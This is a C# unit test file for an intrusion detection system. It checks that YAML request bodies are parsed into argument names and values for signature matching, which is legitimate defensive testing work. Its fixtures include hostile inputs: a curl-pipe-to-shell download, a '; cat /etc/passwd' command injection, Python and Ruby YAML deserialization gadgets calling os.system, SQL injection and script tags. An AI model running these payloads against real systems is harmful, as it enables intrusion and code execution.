using System.Text;
using EastWestIds.Signatures.Buffers;
using EastWestIds.Signatures.Decoding;
using EastWestIds.Signatures.Keywords;
using static EastWestIds.Signatures.Tests.Buffers.BufferAssert;

namespace EastWestIds.Signatures.Tests.Buffers;

/// <summary>YAML bodies: mapping keys are names, every scalar a value, quoted ones decoded, block scalars joined.</summary>
public class RequestBuffersYamlTests
{
    private static RequestBuffers Post(string yaml, string contentType = "application/yaml") =>
        For(FakeRequestView.Post("/api/v1/workflows", contentType, Encoding.UTF8.GetBytes(yaml)));

    private static string Utf8(string latin1) => Encoding.UTF8.GetString(Encoding.Latin1.GetBytes(latin1));

    [Theory]
    [InlineData("application/yaml")]
    [InlineData("application/x-yaml")]
    [InlineData("text/yaml; charset=utf-8")]
    [InlineData("text/x-yaml")]
    [InlineData("application/vnd.argoproj.workflow+yaml")]
    public void Mapping_KeysAreNames_ScalarsAreValues(string contentType)
    {
        const string Yaml = """
            %YAML 1.2
            ---
            # a workflow submission
            apiVersion: v1
            metadata:
              name: nightly-report   # trailing comment
              labels: {team: data, "tier": 'gold'}
            spec:
              args:
                - --since
                - - nested
                - url: http://reports.svc:8080/run?x=1
                  note: time is 12:30
              empty:
            """;
        RequestBuffers b = Post(Yaml, contentType);
        // A flow collection is read as the JSON scanner reads one: its unquoted keys are values, its quoted ones names.
        Assert.Equal(["v1", "nightly-report", "team", "data", "'gold'", "--since", "nested", "http://reports.svc:8080/run?x=1", "time is 12:30"],
            Values(b, InspectionBuffer.HttpArg));
        Assert.Equal(["apiVersion", "metadata", "name", "labels", "tier", "spec", "args", "url", "note", "empty"], Values(b, InspectionBuffer.HttpArgName));
        Assert.Equal(DecodingAnomalies.None, b.Anomalies);
    }

    [Fact]
    public void QuotedScalars_DecodedAndFolded_OverLines()
    {
        const string Yaml = """
            q: "\x27 OR 1=1--"
            u: "\u003cscript\u003e \U0001F600 \t\"x\" \/ \\"
            s: 'it''s here'
            folded: "first
              second

              third"
            joined: "ab\
              cd"
            "quoted key": x
            """;
        RequestBuffers b = Post(Yaml);
        Assert.Equal(["' OR 1=1--", "<script> 😀 \t\"x\" / \\", "it's here", "first second\nthird", "abcd", "x"],
            Values(b, InspectionBuffer.HttpArg).Select(Utf8));
        Assert.Equal(["q", "u", "s", "folded", "joined", "quoted key"], Values(b, InspectionBuffer.HttpArgName));
    }

    [Fact]
    public void BlockScalars_TheirLinesJoined()
    {
        const string Yaml = """
            script: |
              curl http://10.0.0.1/x.sh
                | sh

              echo done
            message: >-
              one
              two

              three
            after: value
            """;
        RequestBuffers b = Post(Yaml);
        Assert.Equal(["curl http://10.0.0.1/x.sh\n  | sh\n\necho done\n", "one two\nthree\n", "value"], Values(b, InspectionBuffer.HttpArg));
    }

    [Fact]
    public void TagsAnchorsAndAliases_AreNoValues_TheirScalarsAre()
    {
        const string Yaml = """
            --- !ruby/object:Gem::Installer
            i: x
            cmd: !!python/object/apply:os.system ["id"]
            base: &b plain
            copy: *b
            """;
        RequestBuffers b = Post(Yaml);
        Assert.Equal(["x", "id", "plain"], Values(b, InspectionBuffer.HttpArg));
        Assert.Equal(["i", "cmd", "base", "copy"], Values(b, InspectionBuffer.HttpArgName));
    }

    [Fact]
    public void JsonIsYaml()
    {
        RequestBuffers b = Post("{\"q\": \"' OR 1=1--\", \"n\": [1, \"two\"]}");
        Assert.Equal(["' OR 1=1--", "1", "two"], Values(b, InspectionBuffer.HttpArg));
        Assert.Equal(["q", "n"], Values(b, InspectionBuffer.HttpArgName));
    }

    [Fact]
    public void Utf16WithByteOrderMark_ReadTranscoded()
    {
        // PyYAML reads UTF-16 with a byte order mark by itself.
        byte[] body = [.. Encoding.Unicode.GetPreamble(), .. Encoding.Unicode.GetBytes("q: \"' OR 1=1--\"\n")];
        RequestBuffers b = For(FakeRequestView.Post("/x", "application/yaml", body));
        Assert.Contains("' OR 1=1--", Values(b, InspectionBuffer.HttpArg));
    }

    [Fact]
    public void UnterminatedQuote_ReadToTheEnd_NoException()
    {
        Assert.Equal(["never closed line"], Values(Post("a: \"never closed\nline"), InspectionBuffer.HttpArg));
        Assert.Equal(["1", "'x"], Values(Post("a: [1, 'x"), InspectionBuffer.HttpArg));
    }

    [Fact]
    public void Tail_ReadFromItsFirstLineBreak()
    {
        RequestBuffers b = For(FakeRequestView.Post("/x", "application/yaml", FakeRequestView.Latin1("pad: aaaa")).WithTail("aaaa\ncmd: ; cat /etc/passwd\n"));
        Assert.Equal(["aaaa", "; cat /etc/passwd"], Values(b, InspectionBuffer.HttpArg));
    }

    [Fact]
    public void RandomText_NeverThrows()
    {
        var random = new Random(27);
        const string Alphabet = " \t\n\r:-#'\"|>[]{},!&*\\abcxyz0123%";
        var buffers = new RequestBuffers();
        for (int n = 0; n < 5000; n++)
        {
            var text = new char[random.Next(0, 200)];
            for (int k = 0; k < text.Length; k++)
            {
                text[k] = Alphabet[random.Next(Alphabet.Length)];
            }

            buffers.Reset(FakeRequestView.Post("/x", "application/yaml", new string(text)));
            buffers.DecodeAll();
        }
    }
}
